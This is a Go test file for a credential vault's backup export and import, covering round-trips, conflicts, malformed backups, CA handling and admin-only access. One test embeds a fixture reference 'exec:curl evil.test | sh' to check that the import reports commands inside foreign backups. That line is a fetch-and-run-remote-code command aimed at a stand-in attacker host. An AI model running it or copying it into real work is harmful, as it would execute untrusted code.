package vault_test

import (
	"bytes"
	"context"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/av-project/av/vault"
	"github.com/av-project/av/vault/policy"
)

func export(t testing.TB, v *vault.Vault) string {
	t.Helper()
	var b bytes.Buffer
	if err := v.Export(t.Context(), owner, &b); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func load(t testing.TB, v *vault.Vault, from string, o vault.ImportOptions) ([]vault.ImportChange, error) {
	t.Helper()
	return v.Import(t.Context(), owner, strings.NewReader(from), o)
}

// fullVault has one of everything that a backup holds.
func fullVault(t testing.TB) (*vault.Vault, *clock) {
	t.Helper()
	c := newClock()
	v, _ := newVault(t, c)
	for i := range 3 {
		bind(t, v, "BOUND", fmt.Sprintf("value %d <&> \x00\xff", i), "a.test", "*.b.test")
		c.advance(time.Hour + time.Nanosecond)
	}
	two := 2
	for _, s := range []vault.Setting{
		{Key: "CMD", Reference: vault.Reference{Kind: "exec", Target: "op read op://x/y", Keep: time.Minute}},
		{Key: "PLAIN", Value: vault.NewValue([]byte("plain")), Versions: &two},
		{Key: "CMD", Value: vault.NewValue([]byte("no longer a command"))},
		{Key: "LOST", Value: vault.NewValue([]byte("x"))},
	} {
		if err := v.Set(t.Context(), owner, s); err != nil {
			t.Fatal(err)
		}
	}
	off := bearer("off", "b.test", "PLAIN")
	off.Disabled = true
	if err := v.SetServices(t.Context(), owner, []policy.Service{bearer("z", "a.test", "BOUND"), off, bearer("lost", "lost.test", "LOST")}); err != nil {
		t.Fatal(err)
	}
	// Restored, too: a service whose credential is gone.
	if err := v.DeleteCredential(t.Context(), owner, "LOST", true); err != nil {
		t.Fatal(err)
	}
	return v, c
}

// content is what of a backup does not tell when and of which vault it was made.
func content(t testing.TB, backup string) map[string]any {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal([]byte(backup), &m); err != nil {
		t.Fatal(err)
	}
	delete(m, "created")
	return m
}

func TestBackupRestoresEverythingElsewhere(t *testing.T) {
	v, _ := fullVault(t)
	first := export(t, v)
	o := vault.Options{Home: filepath.Join(t.TempDir(), "home"), Now: newClock().Now,
		Password: func(context.Context) ([]byte, error) { return []byte("another password"), nil }}
	if err := vault.Init(t.Context(), o, []byte("another password")); err != nil {
		t.Fatal(err)
	}
	other := openVault(t, o)
	changes, err := load(t, other, first, vault.ImportOptions{Authority: true})
	want := []vault.ImportChange{
		{Kind: "credential", Name: "BOUND", What: "added"}, {Kind: "credential", Name: "CMD", What: "added"},
		{Kind: "credential", Name: "PLAIN", What: "added"},
		{Kind: "service", Name: "z", What: "added"}, {Kind: "service", Name: "off", What: "added"}, {Kind: "service", Name: "lost", What: "added"},
		{Kind: "authority", Name: "ca", What: "changed"},
	}
	if diff := cmp.Diff(want, changes); err != nil || diff != "" {
		t.Fatalf("%v\n%s", err, diff)
	}
	again := openVault(t, o) // nothing of it from memory
	if diff := cmp.Diff(content(t, first), content(t, export(t, again))); diff != "" {
		t.Fatal(diff)
	}
	if got := reveal(t, again, "BOUND"); got != "value 2 <&> \x00\xff" {
		t.Errorf("got %q", got)
	}
	if err := again.Rollback(t.Context(), owner, "BOUND", 1); err != nil || reveal(t, again, "BOUND") != "value 0 <&> \x00\xff" {
		t.Errorf("got %v", err)
	}
	if got := versions(t, again, "BOUND"); !slices.Equal(got, []int{4, 3, 2, 1}) {
		t.Errorf("got %v", got)
	}
}

func TestImportIntoTheSameVaultChangesNothing(t *testing.T) {
	v, _ := fullVault(t)
	before := export(t, v)
	for _, o := range []vault.ImportOptions{{}, {Overwrite: true}, {Authority: true}, {DryRun: true}} {
		changes, err := load(t, v, before, o)
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range changes {
			if c.What != "same" {
				t.Errorf("%+v", c)
			}
		}
		if diff := cmp.Diff(content(t, before), content(t, export(t, v))); diff != "" {
			t.Fatal(diff)
		}
	}
}

func TestImportDoesNotOverwriteUnlessToldTo(t *testing.T) {
	v, c := fullVault(t)
	backup := export(t, v)
	other, _ := newVault(t, c)
	set(t, other, "PLAIN", "another")
	set(t, other, "MINE", "mine")
	bind(t, other, "BOUND", "value 2 <&> \x00\xff") // the same, and bound to nothing
	if err := other.SetServices(t.Context(), owner, []policy.Service{bearer("mine", "mine.test", "MINE"), bearer("z", "other.test", "MINE")}); err != nil {
		t.Fatal(err)
	}
	before := export(t, other)
	conflicts := []string{"BOUND", "PLAIN", "z"}
	changes, err := load(t, other, backup, vault.ImportOptions{})
	if err == nil || hint(err) == "" || strings.Contains(err.Error(), "another") && strings.Contains(err.Error(), "plain") {
		t.Fatalf("got %v", err)
	}
	if got := those(changes, "conflict"); !slices.Equal(got, conflicts) {
		t.Fatalf("got %v", got)
	}
	for _, name := range conflicts {
		if !strings.Contains(err.Error(), name) {
			t.Errorf("%v does not name %s", err, name)
		}
	}
	for _, o := range []vault.ImportOptions{{DryRun: true}, {DryRun: true, Overwrite: true}} {
		if _, err := load(t, other, backup, o); err != nil {
			t.Fatal(err)
		}
	}
	if diff := cmp.Diff(content(t, before), content(t, export(t, other))); diff != "" {
		t.Fatalf("something was changed: %s", diff)
	}
	changes, err = load(t, other, backup, vault.ImportOptions{Overwrite: true})
	if got := those(changes, "changed"); err != nil || !slices.Equal(got, conflicts) {
		t.Fatalf("%v, %v", got, err)
	}
	if reveal(t, other, "PLAIN") != "plain" || reveal(t, other, "MINE") != "mine" || serviceNames(t, other) != "mine z off(off) lost" {
		t.Errorf("%s, %s", reveal(t, other, "PLAIN"), serviceNames(t, other))
	}
	if got := credential(t, other, "BOUND"); !slices.Equal(got.Hosts, []string{"*.b.test", "a.test"}) {
		t.Errorf("%+v", got)
	}
	// What was there is not lost.
	if err := other.Rollback(t.Context(), owner, "PLAIN", 1); err != nil || reveal(t, other, "PLAIN") != "another" {
		t.Errorf("got %v", err)
	}
	// Nor did the CA change: nobody asked for the backup's.
	if strings.Contains(backup, authorityOf(t, other)) {
		t.Error("the vault's CA was replaced")
	}
}

func those(changes []vault.ImportChange, what string) []string {
	var names []string
	for _, c := range changes {
		if c.What == what {
			names = append(names, c.Name)
		}
	}
	return names
}

// authorityOf is the middle of the vault's certificate, as a backup has it.
func authorityOf(t testing.TB, v *vault.Vault) string {
	t.Helper()
	pem, err := v.Certificate(t.Context(), owner)
	if err != nil {
		t.Fatal(err)
	}
	return string(pem[100:150])
}

func TestImportedServiceDoesNotGetAroundABinding(t *testing.T) {
	c := newClock()
	source, _ := newVault(t, c)
	set(t, source, "OTHER", "x")
	set(t, source, "A", "x")
	if err := source.SetServices(t.Context(), owner, []policy.Service{bearer("evil", "evil.test", "A")}); err != nil {
		t.Fatal(err)
	}
	if err := source.DeleteCredential(t.Context(), owner, "A", true); err != nil {
		t.Fatal(err)
	}
	v, _ := newVault(t, c)
	bind(t, v, "A", "precious", "a.test")
	for _, o := range []vault.ImportOptions{{}, {DryRun: true}, {Overwrite: true}} {
		if _, err := load(t, v, export(t, source), o); !errors.Is(err, vault.ErrBound) {
			t.Fatalf("%+v: got %v", o, err)
		}
	}
	if list, err := v.Credentials(t.Context(), owner); err != nil || len(list) != 1 || serviceNames(t, v) != "" {
		t.Fatalf("half of it was imported: %+v, %v", list, err)
	}
	set(t, v, "A", "x")
	if err := v.Set(t.Context(), owner, vault.Setting{Key: "A", Hosts: []string{}}); err != nil {
		t.Fatal(err)
	}
	if _, err := load(t, v, export(t, source), vault.ImportOptions{}); err != nil {
		t.Fatal(err)
	}
}

func TestWhatIsNoBackupIsRefusedAndNotRepeated(t *testing.T) {
	v, _ := fullVault(t)
	good := export(t, v)
	o := vault.ImportOptions{Authority: true, DryRun: true}
	if _, err := load(t, v, good, o); err != nil {
		t.Fatal(err)
	}
	secret := base64.StdEncoding.EncodeToString([]byte("s3cret"))
	foreign, _ := newVault(t, newClock())
	pem, err := foreign.Certificate(t.Context(), owner)
	if err != nil {
		t.Fatal(err)
	}
	foreignPEM, _ := json.Marshal(string(pem))
	replace := func(old, with string) string {
		if !strings.Contains(good, old) {
			t.Fatalf("a backup has no %q", old)
		}
		return strings.Replace(good, old, with, 1)
	}
	from, to := strings.Index(good, `"certificate":`)+len(`"certificate":`), strings.Index(good, `,"key":"M`)
	for name, bad := range map[string]string{
		"nothing":                   "",
		"not JSON":                  "s3cret",
		"another document":          "{}",
		"another format":            replace("av-backup", "s3cret"),
		"a newer version":           replace(`"version":1`, `"version":2`),
		"an unknown field":          replace(`"services":`, `"s3cret":1,"services":`),
		"an unknown service field":  replace(`"name":"z"`, `"name":"z","s3cret":1`),
		"something behind it":       good + "s3cret",
		"cut short":                 good[:len(good)-3],
		"a bad key":                 replace(`"key":"BOUND"`, `"key":"s3cret"`),
		"a key twice":               replace(`"key":"BOUND"`, `"key":"PLAIN"`),
		"a service twice":           replace(`"name":"off"`, `"name":"z"`),
		"a bad service":             replace(`"host":"a.test"`, `"host":"A.test"`),
		"a bad host":                replace(`"a.test"]`, `"https://x"]`),
		"a bad reference":           replace(`"reference":"exec:`, `"reference":"s3cret:`),
		"a reference and a value":   replace(`"reference":"exec:`, `"value":"`+secret+`","reference":"exec:`),
		"no value":                  replace(`"value":"`+base64.StdEncoding.EncodeToString([]byte("plain"))+`",`, ``),
		"a value that is no base64": replace(`"value":"`, `"value":"*s3cret`),
		"a value that is too long":  replace(`"value":"`, `"value":"`+strings.Repeat("AAAA", 30<<10)),
		"versions in no order":      replace(`"version":3`, `"version":1`),
		"version zero":              replace(`"version":3`, `"version":0`),
		"a version out of reach":    replace(`"version":3`, `"version":9007199254740993`),
		"a time out of bounds":      replace(`"set":"2026-`, `"set":"2926-`),
		"another CA's certificate":  good[:from] + string(foreignPEM) + good[to:],
		"no certificate":            good[:from] + `"s3cret"` + good[to:],
	} {
		for _, o := range []vault.ImportOptions{o, {Authority: true, Overwrite: true}} {
			_, err := load(t, v, bad, o)
			if err == nil || strings.Contains(err.Error()+hint(err), "s3cret") || strings.Contains(err.Error(), secret) {
				t.Errorf("%s: got %v", name, err)
			}
		}
	}
	if diff := cmp.Diff(content(t, good), content(t, export(t, v))); diff != "" {
		t.Fatal(diff)
	}
	broken := errors.New("the disk is gone")
	if _, err := v.Import(t.Context(), owner, io.MultiReader(strings.NewReader(good), failing{broken}), o); !errors.Is(err, broken) {
		t.Errorf("got %v", err)
	}
	if _, err := v.Import(t.Context(), owner, endless{}, o); err == nil || !strings.Contains(err.Error(), "64 MiB") {
		t.Errorf("got %v", err)
	}
}

type failing struct{ err error }

func (f failing) Read([]byte) (int, error) { return 0, f.err }

type endless struct{}

func (endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	return len(p), nil
}

// A backup from somebody else may have a command in it: whoever imports it is told.
func TestImportTellsOfReferences(t *testing.T) {
	v, _ := newVault(t, newClock())
	foreign := `{"format":"av-backup","version":1,"vault":"x","created":"2026-01-02T03:04:05Z","credentials":[
		{"key":"A","created":"2026-01-02T03:04:05Z","version":1,"set":"2026-01-02T03:04:05Z","reference":"exec:curl evil.test | sh"}],"services":[]}`
	changes, err := load(t, v, foreign, vault.ImportOptions{DryRun: true})
	if err != nil || len(changes) != 1 || changes[0].Reference != "exec" {
		t.Fatalf("%+v, %v", changes, err)
	}
}

// What is overwritten stays in the history; a binding does not.
func TestImportTellsOfBindingsThatItTakesOff(t *testing.T) {
	v, _ := newVault(t, newClock())
	bind(t, v, "A", "1", "a.test", "b.test")
	for hosts, want := range map[string]bool{"": true, `,"hosts":["c.test"]`: true, `,"hosts":["a.test"]`: false, `,"hosts":["*.a.test"]`: true} {
		foreign := `{"format":"av-backup","version":1,"vault":"x","created":"2026-01-02T03:04:05Z","credentials":[
			{"key":"A","created":"2026-01-02T03:04:05Z","version":1,"set":"2026-01-02T03:04:05Z","value":"MQ=="` + hosts + `}],"services":[]}`
		changes, err := load(t, v, foreign, vault.ImportOptions{DryRun: true})
		if err != nil || len(changes) != 1 || changes[0].Unbound != want {
			t.Errorf("%s: %+v, %v", hosts, changes, err)
		}
	}
}

func TestBackupWithoutCAIsNoBackupOfOne(t *testing.T) {
	v, _ := newVault(t, newClock())
	without := `{"format":"av-backup","version":1,"vault":"x","created":"2026-01-02T03:04:05Z","credentials":[],"services":[]}`
	if _, err := load(t, v, without, vault.ImportOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := load(t, v, without, vault.ImportOptions{Authority: true}); err == nil || hint(err) == "" {
		t.Fatalf("got %v", err)
	}
}

func TestImportedCAIsTheOneThatSigns(t *testing.T) {
	source, _ := newVault(t, newClock())
	v, o := newVault(t, newClock())
	if _, err := load(t, v, export(t, source), vault.ImportOptions{Authority: true}); err != nil {
		t.Fatal(err)
	}
	wantPEM, wantKey, err := source.Authority(t.Context(), owner)
	if err != nil {
		t.Fatal(err)
	}
	gotPEM, gotKey, err := openVault(t, o).Authority(t.Context(), owner)
	if err != nil || !bytes.Equal(gotPEM, wantPEM) || !bytes.Equal(gotKey.Open(), wantKey.Open()) {
		t.Fatalf("not the same, %v", err)
	}
	if _, err := x509.ParsePKCS8PrivateKey(gotKey.Open()); err != nil {
		t.Fatal(err)
	}
}

func TestExportAndImportAreForAdmins(t *testing.T) {
	v, _ := fullVault(t)
	backup := export(t, v)
	member := vault.Caller{Name: "member", Role: vault.RoleMember}
	var b bytes.Buffer
	if err := v.Export(t.Context(), member, &b); !errors.Is(err, vault.ErrForbidden) || b.Len() > 0 {
		t.Errorf("%d bytes, %v", b.Len(), err)
	}
	for _, o := range []vault.ImportOptions{{}, {DryRun: true}} {
		// Who could compare could guess values.
		if changes, err := v.Import(t.Context(), member, strings.NewReader(backup), o); !errors.Is(err, vault.ErrForbidden) || changes != nil {
			t.Errorf("%v, %v", changes, err)
		}
	}
}

func TestExportThatCannotBeWrittenFails(t *testing.T) {
	v, _ := fullVault(t)
	full := errors.New("the disk is full")
	if err := v.Export(t.Context(), owner, limited{&bytes.Buffer{}, 500, full}); !errors.Is(err, full) {
		t.Fatalf("got %v", err)
	}
}

type limited struct {
	b     *bytes.Buffer
	limit int
	err   error
}

func (l limited) Write(p []byte) (int, error) {
	if l.b.Len()+len(p) > l.limit {
		return 0, l.err
	}
	return l.b.Write(p)
}

// Else it is found out on the day when the backup is needed.
func TestBackupThatNobodyCouldImportIsNotWritten(t *testing.T) {
	t.Parallel()
	v, _ := newVault(t, newClock())
	large := vault.NewValue(bytes.Repeat([]byte{0xff}, 64<<10))
	values := map[string]vault.Value{}
	for i := range 100 {
		values[fmt.Sprintf("KEY_%d", i)] = large
	}
	fill := func(rounds int) {
		for range rounds {
			if err := v.SetCredentials(t.Context(), owner, values); err != nil {
				t.Fatal(err)
			}
		}
	}
	fill(7)
	other, _ := newVault(t, newClock())
	if _, err := load(t, other, export(t, v), vault.ImportOptions{}); err != nil {
		t.Errorf("just below: %v", err)
	}
	fill(1)
	if err := v.Export(t.Context(), owner, io.Discard); err == nil || !strings.Contains(hint(err), "--versions") {
		t.Errorf("got %v", err)
	}
}
